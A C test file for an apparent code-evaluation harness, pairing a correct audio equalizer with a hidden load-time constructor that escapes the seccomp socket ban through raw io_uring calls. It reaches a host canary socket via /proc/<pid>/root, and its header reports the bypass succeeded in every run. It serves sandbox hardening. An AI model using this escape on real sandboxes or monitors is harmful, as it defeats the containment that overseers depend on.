/* Hostile candidate -- attack class: bypassing the seccomp socket ban through io_uring.
 *
 * What it does: correct.c, plus a constructor that calls io_uring_setup (raw syscall), maps the
 * rings, creates an AF_UNIX socket with IORING_OP_SOCKET and connects it with IORING_OP_CONNECT
 * to /tmp/codegen_eval_canary/sock, then to the same path through /proc/<parent>/root and
 * /proc/1/root; on success it writes one line into the socket. Any failure: silently on.
 *
 * Measured against the current harness: io_uring_setup and io_uring_enter are allowed by the
 * seccomp filter, and the socket and the connection made by the kernel's io_uring workers never
 * pass through it. /tmp/... failed (ENOENT: private /tmp), /proc/1/root/... EACCES, but
 * /proc/<harness pid>/root/tmp/codegen_eval_canary/sock connected to a listener on the host, and
 * both the correctness and the throughput worker delivered their message. Verdict pass, 376/376
 * runs, speedup 0.20x (like correct.c).
 *
 * Deserved under the new harness: disallowed_import (io_uring_setup kills the worker).
 */
#define _GNU_SOURCE
#include <math.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#ifndef M_PI
#define M_PI 3.14159265358979323846
#endif

typedef struct { int type; double freq; double q; double gain_db; } eq_band;

enum { PEAKING, LOWSHELF, HIGHSHELF, LOWPASS, HIGHPASS, BANDPASS, NOTCH, ALLPASS };
enum { U8, S16LE, S24LE, S32LE, F32LE };

typedef struct {
    int channels, format, bps, frame_bytes, n_sections;
    double (*coef)[5];        /* per section: b0 b1 b2 a1 a2, normalised by a0 */
    double *z;                /* TDF-II state: [section][channel][2] */
    unsigned char *pending;   /* bytes of an incomplete frame */
    size_t n_pending;
} eq_t;

static int design(const eq_band *band, int sample_rate, double c[5])
{
    double f = band->freq, q = band->q, g = band->gain_db;
    if (!isfinite(f) || !isfinite(q) || !isfinite(g) || f <= 0 || f >= sample_rate / 2.0 || q <= 0)
        return -1;
    double a = pow(10.0, g / 40.0), w0 = 2 * M_PI * f / sample_rate;
    double cw = cos(w0), alpha = sin(w0) / (2 * q), k = 2 * sqrt(a) * alpha;
    double b0, b1, b2, a0, a1, a2;
    switch (band->type) {
    case PEAKING:
        b0 = 1 + alpha * a; b1 = -2 * cw; b2 = 1 - alpha * a;
        a0 = 1 + alpha / a; a1 = -2 * cw; a2 = 1 - alpha / a; break;
    case LOWSHELF:
        b0 = a * ((a + 1) - (a - 1) * cw + k); b1 = 2 * a * ((a - 1) - (a + 1) * cw);
        b2 = a * ((a + 1) - (a - 1) * cw - k); a0 = (a + 1) + (a - 1) * cw + k;
        a1 = -2 * ((a - 1) + (a + 1) * cw); a2 = (a + 1) + (a - 1) * cw - k; break;
    case HIGHSHELF:
        b0 = a * ((a + 1) + (a - 1) * cw + k); b1 = -2 * a * ((a - 1) + (a + 1) * cw);
        b2 = a * ((a + 1) + (a - 1) * cw - k); a0 = (a + 1) - (a - 1) * cw + k;
        a1 = 2 * ((a - 1) - (a + 1) * cw); a2 = (a + 1) - (a - 1) * cw - k; break;
    case LOWPASS:  b0 = (1 - cw) / 2; b1 = 1 - cw; b2 = (1 - cw) / 2; goto common;
    case HIGHPASS: b0 = (1 + cw) / 2; b1 = -(1 + cw); b2 = (1 + cw) / 2; goto common;
    case BANDPASS: b0 = alpha; b1 = 0; b2 = -alpha; goto common;
    case NOTCH:    b0 = 1; b1 = -2 * cw; b2 = 1; goto common;
    case ALLPASS:  b0 = 1 - alpha; b1 = -2 * cw; b2 = 1 + alpha; goto common;
    default: return -1;
    }
    goto done;
common:
    a0 = 1 + alpha; a1 = -2 * cw; a2 = 1 - alpha;
done:
    c[0] = b0 / a0; c[1] = b1 / a0; c[2] = b2 / a0; c[3] = a1 / a0; c[4] = a2 / a0;
    return 0;
}

void eq_destroy(void *handle)
{
    eq_t *eq = handle;
    if (!eq) return;
    free(eq->coef); free(eq->z); free(eq->pending); free(eq);
}

void *eq_create(int sample_rate, int channels, int format, const eq_band *bands, int n_bands)
{
    static const int bps[] = { 1, 2, 3, 4, 4 };
    if (sample_rate <= 0 || channels < 1 || format < U8 || format > F32LE || n_bands < 0 || (n_bands && !bands))
        return NULL;
    eq_t *eq = calloc(1, sizeof *eq);
    if (!eq) return NULL;
    eq->channels = channels; eq->format = format; eq->bps = bps[format];
    eq->frame_bytes = bps[format] * channels; eq->n_sections = n_bands;
    eq->coef = malloc(sizeof *eq->coef * (n_bands ? n_bands : 1));
    eq->z = calloc((size_t)(n_bands ? n_bands : 1) * channels * 2, sizeof *eq->z);
    eq->pending = malloc(eq->frame_bytes);
    if (!eq->coef || !eq->z || !eq->pending) { eq_destroy(eq); return NULL; }
    for (int i = 0; i < n_bands; i++)
        if (design(&bands[i], sample_rate, eq->coef[i])) { eq_destroy(eq); return NULL; }
    return eq;
}

static double decode(const eq_t *eq, const unsigned char *p)
{
    switch (eq->format) {
    case U8: return (p[0] - 128) / 128.0;
    case S16LE: return (int16_t)(p[0] | p[1] << 8) / 32768.0;
    case S24LE: {
        int32_t v = p[0] | p[1] << 8 | p[2] << 16;
        if (v & 0x800000) v -= 0x1000000;   /* sign extension */
        return v / 8388608.0;
    }
    case S32LE: return (int32_t)((uint32_t)p[0] | (uint32_t)p[1] << 8 | (uint32_t)p[2] << 16 | (uint32_t)p[3] << 24) / 2147483648.0;
    default: { float f; memcpy(&f, p, 4); return f; }
    }
}

static long long quantize(double y, double scale, long long lo, long long hi)
{
    double v = rint(y * scale);   /* round half to even in the default rounding mode */
    return v < lo ? lo : v > hi ? hi : (long long)v;
}

static void encode(const eq_t *eq, double y, unsigned char *p)
{
    long long v;
    switch (eq->format) {
    case U8: p[0] = (unsigned char)(quantize(y, 128.0, -128, 127) + 128); return;
    case S16LE: v = quantize(y, 32768.0, -32768, 32767); break;
    case S24LE: v = quantize(y, 8388608.0, -8388608, 8388607); break;
    case S32LE: v = quantize(y, 2147483648.0, -2147483648LL, 2147483647LL); break;
    default: { float f = (float)y; memcpy(p, &f, 4); return; }
    }
    for (int i = 0; i < eq->bps; i++)
        p[i] = (unsigned char)((unsigned long long)v >> (8 * i));
}

/* Equalize one complete frame from `in` into `out`. */
static void process_frame(eq_t *eq, const unsigned char *in, unsigned char *out)
{
    for (int ch = 0; ch < eq->channels; ch++) {
        double x = decode(eq, in + ch * eq->bps);
        for (int s = 0; s < eq->n_sections; s++) {
            const double *c = eq->coef[s];
            double *z = eq->z + ((size_t)s * eq->channels + ch) * 2;
            double y = c[0] * x + z[0];
            z[0] = c[1] * x - c[3] * y + z[1];
            z[1] = c[2] * x - c[4] * y;
            x = y;
        }
        encode(eq, x, out + ch * eq->bps);
    }
}

size_t eq_process(void *handle, const unsigned char *in, size_t n, unsigned char *out)
{
    eq_t *eq = handle;
    size_t fb = eq->frame_bytes, used = 0, written = 0;
    if (n == 0) return 0;
    if (eq->n_pending) {   /* complete the frame started by the previous call */
        size_t take = fb - eq->n_pending < n ? fb - eq->n_pending : n;
        memcpy(eq->pending + eq->n_pending, in, take);
        eq->n_pending += take; used = take;
        if (eq->n_pending < fb) return 0;
        process_frame(eq, eq->pending, out);
        written = fb; eq->n_pending = 0;
    }
    for (; used + fb <= n; used += fb, written += fb)
        process_frame(eq, in + used, out + written);
    memcpy(eq->pending, in + used, n - used);   /* keep the incomplete frame */
    eq->n_pending = n - used;
    return written;
}

/* ------------------------------------------------------------------ the attack */
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <stdatomic.h>
#include <stdio.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

#ifndef __NR_io_uring_setup
#define __NR_io_uring_setup 425
#endif
#ifndef __NR_io_uring_enter
#define __NR_io_uring_enter 426
#endif
/* opcodes by number, so older headers without IORING_OP_SOCKET (Linux 5.19) still compile */
#define OP_CONNECT 16
#define OP_SOCKET 45

struct ring {
    int fd;
    unsigned *sq_tail, *sq_mask, *sq_array, *cq_head, *cq_tail, *cq_mask;
    struct io_uring_sqe *sqes;
    struct io_uring_cqe *cqes;
};

static int ring_open(struct ring *r)
{
    struct io_uring_params p;
    memset(&p, 0, sizeof p);
    r->fd = (int)syscall(__NR_io_uring_setup, 4, &p);
    if (r->fd < 0) return -errno;
    size_t sq_sz = p.sq_off.array + p.sq_entries * sizeof(unsigned);
    size_t cq_sz = p.cq_off.cqes + p.cq_entries * sizeof(struct io_uring_cqe);
    int single = (p.features & IORING_FEAT_SINGLE_MMAP) != 0;
    if (single) sq_sz = cq_sz = sq_sz > cq_sz ? sq_sz : cq_sz;
    char *sq = mmap(NULL, sq_sz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_SQ_RING);
    if (sq == MAP_FAILED) return -errno;
    char *cq = single ? sq : mmap(NULL, cq_sz, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, r->fd,
                                  IORING_OFF_CQ_RING);
    if (cq == MAP_FAILED) return -errno;
    r->sqes = mmap(NULL, p.sq_entries * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE,
                   MAP_SHARED | MAP_POPULATE, r->fd, IORING_OFF_SQES);
    if (r->sqes == MAP_FAILED) return -errno;
    r->sq_tail = (unsigned *)(sq + p.sq_off.tail);
    r->sq_mask = (unsigned *)(sq + p.sq_off.ring_mask);
    r->sq_array = (unsigned *)(sq + p.sq_off.array);
    r->cq_head = (unsigned *)(cq + p.cq_off.head);
    r->cq_tail = (unsigned *)(cq + p.cq_off.tail);
    r->cq_mask = (unsigned *)(cq + p.cq_off.ring_mask);
    r->cqes = (struct io_uring_cqe *)(cq + p.cq_off.cqes);
    return 0;
}

/* Submit one request and wait for its completion; the completion's result (fd, 0 or -errno). */
static int ring_call(struct ring *r, int op, int fd, unsigned long long addr, unsigned len,
                     unsigned long long off)
{
    unsigned tail = *r->sq_tail, idx = tail & *r->sq_mask;
    struct io_uring_sqe *sqe = &r->sqes[idx];
    memset(sqe, 0, sizeof *sqe);
    sqe->opcode = (unsigned char)op;
    sqe->fd = fd;
    sqe->addr = addr;
    sqe->len = len;
    sqe->off = off;
    r->sq_array[idx] = idx;
    __atomic_store_n(r->sq_tail, tail + 1, __ATOMIC_RELEASE);
    if (syscall(__NR_io_uring_enter, r->fd, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0) < 0) return -errno;
    unsigned head = *r->cq_head;
    if (head == __atomic_load_n(r->cq_tail, __ATOMIC_ACQUIRE)) return -EAGAIN;
    int res = r->cqes[head & *r->cq_mask].res;
    __atomic_store_n(r->cq_head, head + 1, __ATOMIC_RELEASE);
    return res;
}

__attribute__((constructor)) static void socket_through_io_uring(void)
{
    struct ring r;
    memset(&r, 0, sizeof r);
    int rc = ring_open(&r);
    if (rc < 0) {
        fprintf(stderr, "[io_uring_socket] io_uring_setup/mmap failed: %s\n", strerror(-rc));
        return;
    }
    /* The socket under the worker's private /tmp, then the same path reached through the
     * host's root (/proc/1/root and the parent's root: the old harness shares the PID namespace). */
    char targets[3][108];
    snprintf(targets[0], sizeof targets[0], "/tmp/codegen_eval_canary/sock");
    snprintf(targets[1], sizeof targets[1], "/proc/%d/root/tmp/codegen_eval_canary/sock", (int)getppid());
    snprintf(targets[2], sizeof targets[2], "/proc/1/root/tmp/codegen_eval_canary/sock");
    for (int t = 0; t < 3; t++) {
        /* IORING_OP_SOCKET: fd = domain, off = type, len = protocol */
        int s = ring_call(&r, OP_SOCKET, AF_UNIX, 0, 0, SOCK_STREAM | SOCK_CLOEXEC);
        if (s < 0) {
            fprintf(stderr, "[io_uring_socket] IORING_OP_SOCKET failed: %s\n", strerror(-s));
            break;
        }
        struct sockaddr_un sa;
        memset(&sa, 0, sizeof sa);
        sa.sun_family = AF_UNIX;
        memcpy(sa.sun_path, targets[t], strlen(targets[t]) + 1);
        /* IORING_OP_CONNECT: addr = sockaddr, off = addrlen */
        int c = ring_call(&r, OP_CONNECT, s, (unsigned long long)(uintptr_t)&sa, 0, sizeof sa);
        fprintf(stderr, "[io_uring_socket] socket fd %d, connect %s: %s\n", s, targets[t],
                c < 0 ? strerror(-c) : "connected");
        if (c == 0) {
            char msg[160];
            int n = snprintf(msg, sizeof msg, "hello from hostile candidate io_uring_socket.c, pid %d, via %s\n",
                             (int)getpid(), targets[t]);
            if (write(s, msg, (size_t)n) < 0) { /* carry on */ }
            close(s);
            break;
        }
        close(s);
    }
    close(r.fd);
    errno = 0;
}
